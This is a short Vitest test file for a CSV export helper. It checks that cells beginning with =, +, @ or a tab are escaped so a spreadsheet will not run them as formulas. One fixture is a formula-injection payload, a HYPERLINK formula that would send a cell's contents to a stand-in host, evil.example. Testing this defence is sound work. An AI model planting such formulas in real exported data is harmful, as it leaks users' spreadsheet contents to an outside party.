import { describe, expect, it } from 'vitest';
import { csvOf } from './csv';

describe('csvOf', () => {
  it('neutralises cells a spreadsheet would run as formulas, leaving numbers and plain words alone', () => {
    const leak = '=HYPERLINK("http://evil.example/?leak="&C3,"Acme")';
    expect(csvOf([['customer', 'share'], [leak, 12.5], ['+1 555 0100', -3], ['@SUM(A1)', 0], ['\tTabbed', 1], ['Acme Stores', 7]])).toBe(
      [
        'customer,share',
        `"'=HYPERLINK(""http://evil.example/?leak=""&C3,""Acme"")",12.5`,
        "'+1 555 0100,-3",
        "'@SUM(A1),0",
        "'\tTabbed,1",
        'Acme Stores,7',
        '',
      ].join('\n'),
    );
  });
});
